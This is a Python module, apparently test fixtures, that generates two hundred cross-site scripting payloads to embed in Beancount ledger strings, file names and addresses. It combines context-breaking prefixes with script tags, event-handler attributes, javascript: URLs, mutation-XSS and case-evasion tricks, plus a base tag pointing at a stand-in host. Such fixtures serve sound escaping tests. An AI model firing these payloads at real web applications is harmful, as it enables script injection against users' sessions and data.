"""Two hundred ways to run a script from what a ledger, a file's name or an address says."""

from __future__ import annotations

FIRE = "alert(1);window.pwned=1"
TAGS = (
    f"<script data-xss>{FIRE}</script>",
    f"<img data-xss src=x onerror='{FIRE}'>",
    f"<svg data-xss onload='{FIRE}'></svg>",
    f"<iframe data-xss srcdoc='<script>parent.{FIRE}</script>'></iframe>",
    f"<details data-xss open ontoggle='{FIRE}'><summary>x</summary></details>",
    f"<input data-xss autofocus onfocus='{FIRE}'>",
    f"<video data-xss><source onerror='{FIRE}'></video>",
    f"<body data-xss onload='{FIRE}'>",
    f"<a data-xss href='javascript:{FIRE}' onmouseover='{FIRE}'>x</a>",
    f"<math data-xss><mtext></form><form><mglyph><style></math><img src onerror='{FIRE}'>",
    f"<object data-xss data='javascript:{FIRE}'></object>",
    f"<embed data-xss src='javascript:{FIRE}'>",
    "<base data-xss href='//evil.example/'>",
    f"<meta data-xss http-equiv=refresh content='0;url=javascript:{FIRE}'>",
    f"<form data-xss action='javascript:{FIRE}'><button autofocus>x</button></form>",
    f"<marquee data-xss onstart='{FIRE}'>x</marquee>",
    f"<ScRiPt data-xss>{FIRE}</ScRiPt>",
    f"<img/data-xss/src=`x`/onerror={FIRE}>",
    f"<svg data-xss><animate onbegin='{FIRE}' attributeName=x dur=1s></svg>",
    f"<style data-xss>@import 'x'</style><div data-xss style='animation-name:x' onanimationstart='{FIRE}'>x</div>",
)
BREAKS = ("", '">', "'>", "</script>", "-->", "]]>", "</title></style>", "</textarea>", "{{7*7}}", "\u2028`${1}`//")
PAYLOADS = tuple(f"{before}{tag}" for before in BREAKS for tag in TAGS)


def quoted(text: str) -> str:
    """Return the text as a string of Beancount's."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
